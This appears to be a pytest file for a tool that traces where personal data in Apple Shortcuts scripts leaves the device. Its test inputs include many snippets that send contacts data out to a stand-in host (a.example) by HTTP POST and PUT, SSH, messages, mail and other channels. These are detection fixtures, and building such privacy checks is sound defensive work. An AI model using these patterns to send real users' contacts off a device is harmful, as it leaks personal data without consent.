"""Each way out, and where it leads."""

from __future__ import annotations

import pytest

from tests.explain.kit import flows, report

_OWN = "is_workflow_actions_"
_X = f"x = {_OWN}filter_contacts()\n"

SINKS = [
    (f'{_OWN}downloadurl(WFURL=f"https://a.example/{{x}}")', "network", "a.example"),
    (f'{_OWN}downloadurl(WFURL="https://a.example", WFHTTPHeaders={{"k": f"{{x}}"}})', "network", "a.example"),
    (f'{_OWN}downloadurl(WFURL="https://a.example", WFHTTPMethod="POST", WFJSONValues={{"k": f"{{x}}"}})', "network", "a.example"),
    (
        f'{_OWN}downloadurl(WFURL="https://a.example", WFHTTPMethod="POST", WFHTTPBodyType="Form", WFFormValues={{"k": f"{{x}}"}})',
        "network",
        "a.example",
    ),
    (
        f'{_OWN}downloadurl(WFURL="https://a.example", WFHTTPMethod="PUT", WFHTTPBodyType="File", WFRequestVariable=x)',
        "network",
        "a.example",
    ),
    (f'{_OWN}getwebpagecontents(WFInput=f"https://a.example/{{x}}")', "network", "a.example"),
    (f'{_OWN}url_expand(URL=f"https://a.example/{{x}}")', "network", "a.example"),
    (f'{_OWN}rss(WFRSSFeedURL=f"https://a.example/{{x}}")', "network", "a.example"),
    (f'{_OWN}downloadurl(WFURL=f"http://192.168.1.4/{{x}}")', "near", "192.168.1.4, a computer near by"),
    (f'{_OWN}openurl(WFInput=f"https://a.example/?{{x}}")', "web", "a.example"),
    (f'{_OWN}showwebpage(WFURL=f"https://a.example/?{{x}}")', "web", "a.example"),
    (f'{_OWN}searchweb(WFInputText=f"{{x}}", WFSearchWebDestination="Bing")', "search", "Bing"),
    (f'{_OWN}openurl(WFInput=f"things:///add?title={{x}}")', "app", "the app that opens things:"),
    (f'{_OWN}openxcallbackurl(WFXCallbackURL=f"bear://x-callback-url/create?text={{x}}")', "app", "the app that opens bear:"),
    (f'{_OWN}openurl(WFInput=f"shortcuts://run-shortcut?name=Y&input={{x}}")', "shortcut", "the Shortcuts app"),
    (f'{_OWN}openurl(WFInput=f"sms:+15550100&body={{x}}")', "message", "+15550100"),
    (f'{_OWN}openurl(WFInput=f"mailto:a@b.example?body={{x}}")', "mail", "a@b.example"),
    (f'{_OWN}sendmessage(WFSendMessageContent=f"{{x}}")', "message", "whom you choose"),
    (f'{_OWN}sendmessage(WFSendMessageContent=f"{{x}}", WFSendMessageActionRecipients="+15550100")', "message", "+15550100"),
    (f'{_OWN}sendemail(WFSendEmailActionInputAttachments=f"{{x}}", WFSendEmailActionToRecipients="a@b.example")', "mail", "a@b.example"),
    (f"{_OWN}share(WFInput=x)", "share", "whom you choose on the share sheet"),
    (f"{_OWN}airdropdocument(WFInput=x)", "share", "the device you choose by AirDrop"),
    (f"{_OWN}print(WFInput=x)", "share", "a printer"),
    (f'{_OWN}runsshscript(WFInput=x, WFSSHHost="a.example", WFSSHScript="cat")', "script far", "a.example"),
    (f'{_OWN}runshellscript(Input=x, Script="cat")', "script", "a shell script"),
    (f'{_OWN}runapplescript(Input=x, Script="beep")', "script", "an AppleScript"),
    (f'{_OWN}runjavascriptonwebpage(WFInput=x, WFJavaScript="1")', "page", "the web page that is open in Safari"),
    (f'{_OWN}openurl(WFInput=f"data:text/html,{{x}}")', "page", "a page made here, whose scripts may reach any server"),
    (f'{_OWN}getrichtextfromhtml(WFHTML=f"<p>{{x}}</p>")', "page", "servers that its HTML may name"),
    (f"{_OWN}setclipboard(WFInput=x)", "clipboard", "the clipboard, which other apps can read"),
    (f'{_OWN}runworkflow(WFInput=x, WFWorkflow=dict(workflowName="Y", isSelf=False))', "shortcut", "the shortcut “Y”"),
    (f"{_OWN}documentpicker_save(WFInput=x)", "file", "a file, which iCloud may copy to other devices"),
    (f'{_OWN}documentpicker_save(WFInput=x, WFFileStorageService="Dropbox")', "cloud", "Dropbox"),
    (f"{_OWN}tweet(TweetInput=x)", "social", "Twitter"),
    (f'{_OWN}text_translate(WFInputText=f"{{x}}")', "apple", "the translation service of the system"),
    (f'{_OWN}askllm(WFLLMPrompt=f"{{x}}", WFLLMModel="ChatGPT")', "model", "ChatGPT"),
    (f'{_OWN}askllm(WFLLMPrompt=f"{{x}}", WFLLMModel="Private Cloud Compute")', "apple", "a model on Apple's servers"),
    ("com_example_Diary_AddEntry(text=x)", "app", "Diary"),
]


@pytest.mark.parametrize(("call", "channel", "to"), SINKS, ids=[call[:70] for call, *_ in SINKS])
def test_a_way_out_is_found(call: str, channel: str, to: str) -> None:
    assert flows(_X + call + "\n") == {("contacts", channel, to)}


@pytest.mark.parametrize("call", [call for call, *_ in SINKS], ids=[call[:70] for call, *_ in SINKS])
def test_nothing_leaves_where_nothing_personal_is_given(call: str) -> None:
    assert not flows(f'x = {_OWN}gettext(WFTextActionText="a")\n{call}\n')


INSIDE = [
    f"{_OWN}showresult(Text=f'{{x}}')",
    f"{_OWN}previewdocument(WFInput=x)",
    f'{_OWN}notification(WFNotificationActionBody=f"{{x}}")',
    f'{_OWN}askllm(WFLLMPrompt=f"{{x}}", WFLLMModel="Apple Intelligence")',
    f'{_OWN}runworkflow(WFInput=x, WFWorkflow=dict(workflowName="Me", isSelf=True))',
    f'{_OWN}openurl(WFInput="https://a.example")',
]


@pytest.mark.parametrize("call", INSIDE)
def test_what_stays_on_the_device_is_no_flow(call: str) -> None:
    assert not flows(_X + call + "\n")


def test_people_who_are_asked_for_on_import_are_not_those_in_the_file() -> None:
    head = '# /// shortcut\n# [[question]]\n# action = 1\n# parameter = "WFSendMessageActionRecipients"\n# text = "Whom?"\n# ///\n'
    text = head + _X + f'{_OWN}sendmessage(WFSendMessageContent=f"{{x}}", WFSendMessageActionRecipients="+15550100")\n'
    assert flows(text) == {("contacts", "message", "whom you enter when you add it")}


def test_a_body_that_the_method_does_not_send_is_no_flow() -> None:
    assert not flows(_X + f'{_OWN}downloadurl(WFURL="https://a.example", WFHTTPMethod="GET", WFJSONValues={{"k": f"{{x}}"}})\n')


def test_a_request_that_carries_nothing_is_a_contact() -> None:
    found = report(f'{_OWN}downloadurl(WFURL="https://a.example/x.json")\n')
    assert [(one.host, one.actions, one.carries) for one in found.contacts] == [("a.example", (0,), False)]
    assert found.flows == ()


def test_a_call_without_data_still_counts_as_a_change() -> None:
    found = report('com_apple_mobilephone_call(WFCallContact="+15550100")\n')
    assert [(one.rule, one.message) for one in found.section("change")] == [("sends-alone", "Calls +15550100 without showing it first")]
